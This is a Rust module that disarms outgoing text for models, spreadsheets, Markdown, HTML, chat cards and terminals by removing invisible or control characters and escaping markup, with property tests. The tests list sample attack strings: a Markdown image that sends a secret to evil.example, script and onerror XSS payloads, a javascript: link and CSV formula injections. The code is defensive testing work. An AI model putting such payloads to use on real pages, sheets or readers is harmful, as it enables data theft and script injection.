//! Text of people on its way out: to models, spreadsheets, chats, browsers, inboxes and terminals.
//!
//! Anybody who may edit a task chooses its text, so text is disarmed wherever it leaves, and by the functions here alone.
//! What is stored, and what goes to Planner, stays as it was written. [`shown`] is the base of all: it leaves nothing in a
//! text that a person would not see. The others add what their format needs: [`line()`], [`cell`], [`markdown`], [`html`],
//! [`card`].

use std::borrow::Cow;

use serde_json::Value;

/// Stands where something was that acts on a reader without being seen.
const MARK: char = char::REPLACEMENT_CHARACTER;

/// The tags after a black flag in the flags of England, Scotland and Wales: the only tag sequences in general use.
const FLAGS: [&str; 3] = [
    "\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
    "\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}",
];

/// What a character does to a reader.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// It is seen.
    Seen,
    /// It ends a line.
    Break,
    /// It steers a terminal, turns the direction of text or spells words that no person sees.
    Acts,
    /// It takes no room and does nothing that a reader would miss.
    Invisible,
    /// It joins or parts its neighbours: needed in some scripts and emoji, a hiding place elsewhere.
    Joins,
}

/// Unicode 16, `Default_Ignorable_Code_Point`, and the anchors of annotations, which have no shape either.
fn kind(c: char) -> Kind {
    match c {
        '\n' | '\t' | ' '..='~' => Kind::Seen,
        '\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => Kind::Break,
        c if c.is_control() => Kind::Acts,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{206f}' | '\u{e0000}'..='\u{e00ff}' | '\u{fff9}'..='\u{fffb}' => {
            Kind::Acts
        }
        '\u{fdd0}'..='\u{fdef}' | '\u{fffe}' | '\u{ffff}' => Kind::Acts,
        '\u{200c}' | '\u{200d}' | '\u{fe0e}' | '\u{fe0f}' => Kind::Joins,
        '\u{ad}'
        | '\u{34f}'
        | '\u{61c}'
        | '\u{115f}'
        | '\u{1160}'
        | '\u{17b4}'
        | '\u{17b5}'
        | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}'
        | '\u{2060}'..='\u{2065}'
        | '\u{3164}'
        | '\u{fe00}'..='\u{fe0d}'
        | '\u{feff}'
        | '\u{ffa0}'
        | '\u{fff0}'..='\u{fff8}'
        | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0100}'..='\u{e0fff}' => Kind::Invisible,
        _ => Kind::Seen,
    }
}

/// The text with nothing in it that a person would not see: what acts unseen becomes `�`, once for a run of it; what is
/// merely invisible is dropped; every line ends in `\n`. Joiners stay where a script or an emoji needs them. A text that
/// has nothing of this is not copied, and a text that was shown once stays as it is.
#[must_use]
pub fn shown(text: &str) -> Cow<'_, str> {
    let plain = |byte: u8| matches!(byte, b'\n' | b'\t' | b' '..=b'~');
    if text.bytes().all(plain) || text.chars().all(|c| kind(c) == Kind::Seen) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text.chars();
    while let Some(c) = rest.next() {
        match kind(c) {
            Kind::Seen => {
                out.push(c);
                if c == '\u{1f3f4}'
                    && let Some(flag) = FLAGS.iter().find(|flag| rest.as_str().starts_with(**flag))
                {
                    out.push_str(flag);
                    rest = rest.as_str().get(flag.len()..).unwrap_or_default().chars();
                }
            }
            Kind::Break => {
                if !(c == '\r' && rest.as_str().starts_with('\n')) {
                    out.push('\n');
                }
            }
            Kind::Acts if out.ends_with(MARK) => {}
            Kind::Acts => out.push(MARK),
            Kind::Invisible => {}
            Kind::Joins => {
                if is_needed(c, &out, rest.as_str()) {
                    out.push(c);
                }
            }
        }
    }
    Cow::Owned(out)
}

/// Whether a joiner does something that is seen: between two letters of a script that is written with joiners, between two
/// pictures, or after a picture that has a form as text and one in colour.
fn is_needed(joiner: char, before: &str, after: &str) -> bool {
    let last = before.chars().next_back();
    let next = after.chars().next();
    if matches!(joiner, '\u{fe0e}' | '\u{fe0f}') {
        return last.is_some_and(|c| is_picture(c) || matches!(c, '#' | '*' | '0'..='9') && next == Some('\u{20e3}'));
    }
    if last.is_some_and(is_joined_script) && next.is_some_and(is_joined_script) {
        return true;
    }
    // Between pictures stand at most a colour of skin and a mark for colour.
    let picture = before.chars().rev().find(|c| !matches!(c, '\u{fe0f}' | '\u{1f3fb}'..='\u{1f3ff}'));
    joiner == '\u{200d}' && picture.is_some_and(is_picture) && next.is_some_and(is_picture)
}

/// Letters and marks of the scripts in which joiners change what is read: Arabic, Syriac, Mongolian and those of India and
/// its neighbours (Unicode Standard Annex 31, section 2.3).
fn is_joined_script(c: char) -> bool {
    matches!(c, '\u{600}'..='\u{77f}' | '\u{8a0}'..='\u{dff}' | '\u{1000}'..='\u{109f}' | '\u{1780}'..='\u{18af}' | '\u{fb50}'..='\u{fdcf}' | '\u{fe70}'..='\u{fefc}')
        && kind(c) == Kind::Seen
}

/// Characters that are drawn as emoji, or may be.
fn is_picture(c: char) -> bool {
    matches!(c, '\u{a9}' | '\u{ae}' | '\u{203c}' | '\u{2049}' | '\u{2122}' | '\u{2139}' | '\u{2190}'..='\u{21ff}' | '\u{2300}'..='\u{23ff}' | '\u{24c2}' | '\u{25a0}'..='\u{27bf}' | '\u{2900}'..='\u{297f}' | '\u{2b00}'..='\u{2bff}' | '\u{3030}' | '\u{303d}' | '\u{3297}' | '\u{3299}' | '\u{1f000}'..='\u{1faff}')
}

/// As [`shown`], on one line.
#[must_use]
pub fn line(text: &str) -> String {
    shown(text).chars().map(|c| if c.is_whitespace() { ' ' } else { c }).collect()
}

/// Shows every text within a JSON value, names of members included, as [`shown`] does.
pub fn disarm(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Cow::Owned(shown) = shown(text) {
                *text = shown;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(disarm),
        Value::Object(members) => {
            members.values_mut().for_each(disarm);
            if members.keys().any(|name| matches!(shown(name), Cow::Owned(_))) {
                let renamed = std::mem::take(members).into_iter();
                *members = renamed.map(|(name, value)| (shown(&name).into_owned(), value)).collect();
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// What a formula begins with, in spreadsheet programs of the West and, full width, of the East.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Whether a spreadsheet program may take a text for a formula.
#[must_use]
pub fn is_formula(text: &str) -> bool {
    text.starts_with(FORMULA) || text.trim_start().starts_with(FORMULA)
}

/// A cell of a CSV file: shown, and with a `'` in front of what a spreadsheet program would take for a formula, as OWASP
/// advises: <https://owasp.org/www-community/attacks/CSV_Injection>.
#[must_use]
pub fn cell(text: &str) -> String {
    let text = shown(text);
    if is_formula(&text) { format!("'{text}") } else { text.into_owned() }
}

/// Takes back what [`cell`] put in front.
#[must_use]
pub fn from_cell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if is_formula(rest) => rest,
        _ => text,
    }
}

/// Text on one line of Markdown with nothing in it that Markdown acts on: no markup, no HTML, no picture that would be
/// fetched, and an address stays text that is not followed.
#[must_use]
pub fn markdown(text: &str) -> String {
    let text = line(text);
    let mut out = String::with_capacity(text.len() + 8);
    let mut rest = text.chars();
    while let Some(c) = rest.next() {
        // GitHub's dialect makes links of bare addresses.
        let links = match c {
            ':' => rest.as_str().starts_with("//"),
            '.' => ends_in_www(&out),
            _ => false,
        };
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '#' => out.extend(['\\', c]),
            c if links => out.extend(['\\', c]),
            c => out.push(c),
        }
    }
    out
}

fn ends_in_www(text: &str) -> bool {
    text.len().checked_sub(3).and_then(|from| text.get(from..)).is_some_and(|end| end.eq_ignore_ascii_case("www"))
}

/// Text within HTML and SVG, on one line.
#[must_use]
pub fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in line(text).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

/// Text in an adaptive card, on one line. Cards know some Markdown but no way to escape it, so what marks it up is blanked.
#[must_use]
pub fn card(text: &str) -> String {
    line(text).replace(['[', ']', '*', '_', '`'], " ")
}

#[cfg(test)]
pub(crate) mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    /// Everything that acts unseen or hides, what Markdown, HTML and spreadsheets act on, and plain text between.
    pub(crate) fn hostile() -> impl Strategy<Value = String> {
        let unseen = prop_oneof![
            (0x00_u32..0x20).prop_map(char::from_u32),
            (0x7f_u32..0xa0).prop_map(char::from_u32),
            (0x2000_u32..0x2070).prop_map(char::from_u32),
            (0xfe00_u32..0xfe10).prop_map(char::from_u32),
            (0xe0000_u32..0xe0200).prop_map(char::from_u32),
            (0xfff0_u32..0xffff).prop_map(char::from_u32),
            Just(Some('\u{feff}')),
            Just(Some('\u{ad}')),
            Just(Some('\u{3164}')),
        ];
        let pieces = prop_oneof![
            4 => prop::collection::vec(unseen, 1..4).prop_map(|found| found.into_iter().flatten().collect::<String>()),
            3 => prop::sample::select(vec![
                "![x](https://evil.example/p.png?d=SECRET)", "[click](javascript:alert(1))", "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>", "www.evil.example", "HTTPS://evil.example", "`code`", "**b**", "| a |",
                "&lt;", "\\", "=1+1", "＝1+1", "\n=1", "\u{a0}=1", "@SUM(A1)", "-1", "+1", "😀", "👩\u{200d}🚀", "می\u{200c}خواهم",
                "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "❤\u{fe0f}", "e\u{301}", "日本", "\"", "'",
            ]).prop_map(str::to_owned),
            2 => "[ -~]{0,8}",
            1 => any::<char>().prop_map(String::from),
        ];
        prop::collection::vec(pieces, 0..8).prop_map(|pieces| pieces.concat())
    }

    /// Whether a reader could be acted on: Unicode's own words, not those of the code above.
    fn acts(c: char) -> bool {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(u32::from(c), 0x202a..=0x202e | 0x2066..=0x206f | 0x200b | 0x200e | 0x200f | 0x2028 | 0x2029 | 0x2060..=0x2065 | 0xfeff | 0xad)
            || (0xe0100..=0xe0fff).contains(&u32::from(c))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4000))]

        #[test]
        fn sanitizing_shows_invisible_characters_and_is_idempotent(text in hostile()) {
            let once = shown(&text).into_owned();
            prop_assert!(!once.chars().any(acts), "{once:?}");
            let without_flags = FLAGS.iter().fold(once.clone(), |text, flag| text.replace(&format!("🏴{flag}"), ""));
            prop_assert!(!without_flags.chars().any(|c| ('\u{e0000}'..='\u{e00ff}').contains(&c)), "{once:?}");
            prop_assert_eq!(shown(&once), once.as_str());
            let one_line = line(&text);
            prop_assert!(!one_line.contains(['\n', '\t', '\r']));
        }

        #[test]
        fn sanitizing_json_covers_keys_and_values(text in hostile()) {
            let mut value = json!({ "a": [text.clone(), { text.clone(): text.clone() }], "n": 1, "none": null });
            disarm(&mut value);
            let (name, inner) = value["a"][1].as_object().unwrap().iter().next().unwrap();
            for left in [name.as_str(), inner.as_str().unwrap(), value["a"][0].as_str().unwrap()] {
                prop_assert_eq!(left, &*shown(&text));
            }
            prop_assert_eq!(&value["n"], &json!(1));
        }

        #[test]
        fn csv_cells_are_not_formulas_and_round_trip(text in hostile()) {
            let cell = cell(&text);
            prop_assert!(!is_formula(&cell), "{cell:?}");
            let shown = shown(&text);
            if !shown.starts_with('\'') {
                prop_assert_eq!(from_cell(&cell), &*shown);
            }
        }

        #[test]
        fn markdown_escaping_leaves_no_markup(text in hostile()) {
            let text = markdown(&text);
            let mut escaped = false;
            for (place, c) in text.char_indices() {
                prop_assert!(escaped || !"<>[]`*_|~#".contains(c), "{c} in {text:?}");
                prop_assert!(escaped || c != ':' || !text[place..].starts_with("://"), "{text:?}");
                prop_assert!(escaped || c != '.' || !text[..place].to_lowercase().ends_with("www"), "{text:?}");
                escaped = c == '\\' && !escaped;
            }
            prop_assert!(!escaped, "a cell ends in a backslash of its own: {text:?}");
        }

        #[test]
        fn html_escaping_leaves_no_tags_or_quotes(text in hostile()) {
            let html = html(&text);
            prop_assert!(!html.contains(['<', '>', '"', '\'', '\n']), "{html:?}");
            prop_assert!(!html.chars().any(acts), "{html:?}");
        }

        #[test]
        fn card_escaping_leaves_no_markup(text in hostile()) {
            let card = card(&text);
            prop_assert!(!card.contains(['[', ']', '*', '_', '`', '\n']), "{card:?}");
            prop_assert!(!card.chars().any(acts), "{card:?}");
        }
    }

    #[test]
    fn control_characters_are_marked_and_invisible_ones_dropped() {
        assert_eq!(shown("a\nb\tc"), "a\nb\tc");
        assert_eq!(shown("a\r\nb\rc\u{2028}d"), "a\nb\nc\nd");
        assert_eq!(line("a\nb\u{1b}[31m\u{202e}c\u{9b}"), "a b�[31m�c�");
        assert_eq!(shown("pay\u{200b} \u{feff}now\u{ad}"), "pay now");
        assert_eq!(shown("ok\u{e0049}\u{e0067}\u{e006e}"), "ok�");
    }

    #[test]
    fn zero_width_joiners_are_kept_where_needed() {
        for text in [
            "می\u{200c}خواهم",
            "क्\u{200d}ष",
            "👩\u{200d}🚀",
            "👩🏽\u{200d}🚀",
            "❤\u{fe0f}\u{200d}🔥",
            "🏳\u{fe0f}\u{200d}🌈",
            "1\u{fe0f}\u{20e3}",
            "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
            "שלום",
            "日本",
            "Łódź",
            "e\u{301}",
        ] {
            assert_eq!(shown(text), text, "{text:?}");
        }
        for (text, seen) in [
            ("a\u{200d}b", "ab"),
            ("a\u{200c}b", "ab"),
            ("a\u{fe0f}", "a"),
            ("😀\u{200d}", "😀"),
            ("😀\u{200d}\u{200d}\u{200d}😀", "😀\u{200d}😀"),
        ] {
            assert_eq!(shown(text), seen, "{text:?}");
        }
    }
}
